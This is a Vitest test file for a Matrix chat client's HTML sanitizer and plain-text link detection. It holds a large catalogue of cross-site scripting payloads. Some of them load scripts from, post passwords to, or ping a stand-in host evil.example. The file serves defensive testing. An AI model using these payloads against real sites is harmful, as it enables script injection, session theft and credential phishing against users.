import { MantineProvider } from "@mantine/core";
import { cleanup, fireEvent, render, screen } from "@testing-library/react";
import i18next from "i18next";
import { initReactI18next } from "react-i18next";
import { afterEach, beforeAll, describe, expect, test, vi } from "vitest";
import en from "./en.json";
import { Html, PlainText } from "./html.tsx";
import { tags } from "./sanitize.ts";

vi.mock("@tanstack/react-router", () => ({
  useParams: () => ({ roomId: "!here:x" }),
  Link: ({ to, params, search, children }: { to: string; params?: Record<string, string>; search?: { event?: string; user?: string }; children: React.ReactNode }) => (
    <a href={`${to.replace("$roomId", params?.roomId ?? "")}${search?.event ? `?event=${search.event}` : ""}${search?.user ? `?user=${search.user}` : ""}`}>{children}</a>
  ),
}));
vi.mock("@/matrix/messageNames.ts", () => ({
  useNamedPerson: (_room: string, id: string) => ({ name: id === "@anna:x" ? "Anna" : id, me: false }),
  useNamedRoom: (id: string) => (id === "!room:x" || id === "#room:x" ? { id: "!room:x", name: "Team" } : null),
}));

beforeAll(async () => {
  await i18next.use(initReactI18next).init({ lng: "en", resources: { en: { timeline: en } }, interpolation: { escapeValue: false } });
});
afterEach(cleanup);

const show = (html: string, text = "") => render(<Html html={html} text={text} />, { wrapper: ({ children }) => <MantineProvider>{children}</MantineProvider> }).container;
const messageOf = (container: HTMLElement): HTMLElement => container.querySelector<HTMLElement>('[class*="html"], [class*="plain"]') ?? container;

const fire = "alert(1)";
/** One vector for each way that the cheat sheets know to make a page run or fetch something. */
const vectors = [
  `<script>${fire}</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>${fire}</scr</script>ipt>`, `<script/xss src="//evil.example"></script>`, `<<script>${fire};//<</script>`,
  `<script>${fire}`, `<svg><script>${fire}</script></svg>`, `<svg onload=${fire}>`, `<svg/onload=${fire}//`, `<svg><animate onbegin=${fire} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${fire}"><text>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg id=x onload=${fire}>#x"/></svg>`, `<svg><foreignObject><iframe src="javascript:${fire}"></foreignObject></svg>`,
  `<math><mi xlink:href="javascript:${fire}">x</mi></math>`, `<math href="javascript:${fire}">x</math>`, `<math><mtext><table><mglyph><style><img src=x onerror=${fire}></style></mglyph></table></mtext></math>`,
  `<img src=x onerror=${fire}>`, `<img src="javascript:${fire}">`, `<IMG """><SCRIPT>${fire}</SCRIPT>">`, `<img src=x:x onerror="${fire}"/>`, `<img src='x'onerror=${fire}>`, `<img/src="x"/onerror=${fire}>`, `<img src="https://evil.example/pixel.gif">`,
  `<img srcset="https://evil.example/1.png 1x" src="mxc://x/y">`, `<img lowsrc="javascript:${fire}">`, `<img dynsrc="javascript:${fire}">`, `<image src=x onerror=${fire}>`, `<picture><source srcset="https://evil.example/x"><img></picture>`,
  `<a href="javascript:${fire}">x</a>`, `<a href="JaVaScRiPt:${fire}">x</a>`, `<a href="jav&#x09;ascript:${fire}">x</a>`, `<a href="jav&#x0A;ascript:${fire}">x</a>`, `<a href="&#1;javascript:${fire}">x</a>`, `<a href=" javascript:${fire}">x</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${fire}">x</a>`, `<a href="vbscript:msgbox(1)">x</a>`, `<a href="data:text/html,<script>${fire}</script>">x</a>`, `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="blob:https://evil.example/1">x</a>`, `<a href="file:///etc/passwd">x</a>`, `<a onclick=${fire} href="https://ok.example">x</a>`, `<a href="https://ok.example" target="_self" rel="opener" download ping="https://evil.example">x</a>`, `<a href="//evil.example">x</a>`,
  `<a onmouseover="${fire}">x</a>`, `<b onmouseover=${fire}>x</b>`, `<div onpointerenter=${fire}>x</div>`, `<p onfocus=${fire} tabindex=1 autofocus>x</p>`, `<details open ontoggle=${fire}><summary>x</summary></details>`, `<span onanimationstart=${fire} style="animation:x">x</span>`,
  `<iframe src="javascript:${fire}"></iframe>`, `<iframe srcdoc="<script>${fire}</script>"></iframe>`, `<frameset onload=${fire}><frame src=//evil.example></frameset>`, `<object data="javascript:${fire}"></object>`, `<embed src="javascript:${fire}">`, `<applet code=x></applet>`,
  `<form action="https://evil.example"><input name=password><button>Sign in</button></form>`, `<input onfocus=${fire} autofocus>`, `<button formaction="javascript:${fire}">x</button>`, `<select onchange=${fire}><option>1</select>`, `<textarea onfocus=${fire} autofocus>x</textarea>`, `<keygen onfocus=${fire}>`, `<isindex action=javascript:${fire}>`,
  `<style>@import url(//evil.example);*{display:none}</style>`, `<link rel=stylesheet href=//evil.example>`, `<div style="background:url(javascript:${fire})">x</div>`, `<div style="position:fixed;inset:0;z-index:9999">x</div>`, `<p style="width:expression(${fire})">x</p>`, `<font style=x color=red>x</font>`,
  `<meta http-equiv=refresh content="0;url=javascript:${fire}">`, `<base href="https://evil.example/">`, `<body onload=${fire}>`, `<html manifest=x onclick=${fire}>`, `<title><img src=x onerror=${fire}></title>`, `<noscript><p title="</noscript><img src=x onerror=${fire}>"></noscript>`,
  `<video src=x onerror=${fire}></video>`, `<video poster="javascript:${fire}"></video>`, `<audio src=x onerror=${fire}></audio>`, `<source src=x onerror=${fire}>`, `<track onerror=${fire} src=x>`, `<bgsound src="javascript:${fire}">`, `<marquee onstart=${fire}>x</marquee>`, `<blink>x</blink>`,
  `<xss onclick=${fire}>x</xss>`, `<x-element onclick=${fire}>x</x-element>`, `<template><img src=x onerror=${fire}></template>`, `<slot name=x>y</slot>`, `<dialog open>Your password, please</dialog>`, `<portal src=//evil.example></portal>`, `<plaintext>x`, `<xmp><img src=x onerror=${fire}></xmp>`,
  `<!--><img src=x onerror=${fire}>-->`, `<![CDATA[<img src=x onerror=${fire}>]]>`, `<?xml version="1.0"?><x xmlns:a="http://www.w3.org/1999/xhtml"><a:script>${fire}</a:script></x>`, `<div id="root" name="body" class="mantine-Button-root">x</div>`, `<img name=getElementById>`, `<a id=client name=client>x</a>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${fire}>`, `<table background="javascript:${fire}"><tr><td background="javascript:${fire}">x</td></tr></table>`, `<blockquote cite="javascript:${fire}">x</blockquote>`, `<ol start="javascript:${fire}"><li value=9>x</li></ol>`,
  `<span data-mx-color="red;background:url(//evil.example)" data-mx-bg-color="#fff">x</span>`, `<code class="language-x onload=${fire}">x</code>`, `<pre onclick=${fire}>x</pre>`, `<mx-reply><img src=x onerror=${fire}></mx-reply>`, `<a href="https://matrix.to/#/javascript:${fire}">x</a>`, `<a href="matrix:u/${fire}">x</a>`,
];

describe("HTML of messages", () => {
  test("is tried with many vectors", () => {
    expect(new Set(vectors).size).toBeGreaterThanOrEqual(60);
  });

  // What our own components draw: links that open beside the app, spoilers, pills, code with a button.
  const own = new Set<string>([...tags, "svg", "path", "button"]);
  test.each(vectors)("is harmless: %s", (vector) => {
    for (const e of messageOf(show(vector)).querySelectorAll("*")) {
      const tag = e.localName;
      expect(own.has(tag), `<${tag}>`).toBe(true);
      if (tag === "svg" || tag === "path" || tag === "button") expect(e.closest('[class*="codeBlock"], [class*="pill"], [class*="spoiler"]'), `<${tag}>`).not.toBeNull();
      for (const { name, value } of e.attributes) {
        if (name === "style" && e.closest("button") !== null) continue; // sizes of our own button
        expect(name).not.toMatch(/^on|^style$|^srcset$|^ping$|^download$|^formaction$|^xlink|^id$|^name$|^background$|^poster$|^cite$/);
        expect(value.replace(/[\s\u0000-\u001f]/g, "")).not.toMatch(/^(javascript|vbscript|data|file):/i);
        if (name === "src") expect(value).toMatch(/^blob:/);
        if (name === "href") expect(value).toMatch(/^(https?|ftp|mailto|magnet|matrix):|^\/room\//);
      }
      if (tag === "a" && /^(?!\/room\/)/.test(e.getAttribute("href") ?? "/room/")) expect([e.getAttribute("target"), e.getAttribute("rel")]).toEqual(["_blank", "noopener noreferrer nofollow"]);
    }
  });

  test("keeps what the specification allows", () => {
    const message = messageOf(show('<p>a <strong>b</strong> <em>c</em> <del>d</del> <code>e</code></p><ol start="3"><li>f</li></ol><table><thead><tr><th>g</th></tr></thead></table><details><summary>h</summary>i</details><blockquote>j</blockquote>'));
    expect(message.querySelector("strong")?.textContent).toBe("b");
    expect(message.querySelector("ol")?.getAttribute("start")).toBe("3");
    expect(["em", "del", "code", "th", "summary", "blockquote"].map((t) => message.querySelector(t)?.textContent)).toEqual(["c", "d", "e", "g", "h", "j"]);
  });

  test("hides a spoiler until it is asked for", () => {
    show('The butler is <span data-mx-spoiler="the end">the murderer</span>');
    expect(screen.queryByText("the murderer")).toBeNull();
    fireEvent.click(screen.getByRole("button", { name: "Hidden text (the end). Show" }));
    expect(screen.getByText("the murderer")).toBeTruthy();
  });

  test("makes links to people and rooms pills within the app", () => {
    show('<a href="https://matrix.to/#/@anna:x">whoever</a> <a href="https://matrix.to/#/!room:x/$event?via=x">there</a> <a href="matrix:r/room:x">here</a> <a href="https://matrix.to/#/!other:x">unknown</a>');
    expect(screen.getByRole("link", { name: "@Anna" }).getAttribute("href")).toBe("/room/!here:x?user=@anna:x");
    expect(screen.getByRole("link", { name: "Message in Team" }).getAttribute("href")).toBe("/room/!room:x?event=$event");
    expect(screen.getByRole("link", { name: "Team" }).getAttribute("href")).toBe("/room/!room:x");
    expect(screen.queryByRole("link", { name: "unknown" })).toBeNull();
  });

  test("is shown as text where it is too long", () => {
    expect(messageOf(show(`<b>x</b>${"y".repeat(100_001)}`, "the plain text")).textContent).toBe("the plain text");
  });

  test("nested without end is cut, and does not break the page", () => {
    expect(() => show("<div>".repeat(500) + "x")).not.toThrow();
  }, 30_000);
});

describe("plain text", () => {
  const links = (text: string) => {
    const { container } = render(<PlainText text={text} />);
    const found = [...container.querySelectorAll("a")].map((a) => a.getAttribute("href"));
    cleanup();
    return found;
  };
  test.each([
    ["see https://example.org/a_(b), and www.example.com.", ["https://example.org/a_(b)", "https://www.example.com/"]],
    ["(https://example.org/x)", ["https://example.org/x"]],
    ["mail anna@example.org!", ["mailto:anna@example.org"]],
    ["@anna:example.org and #room:example.org", []],
    ["javascript:alert(1) data:text/html,x", []],
    ["<b>https://example.org/</b>", ["https://example.org/"]],
  ])("%s", (text, hrefs) => {
    expect(links(text)).toEqual(hrefs);
  });
});
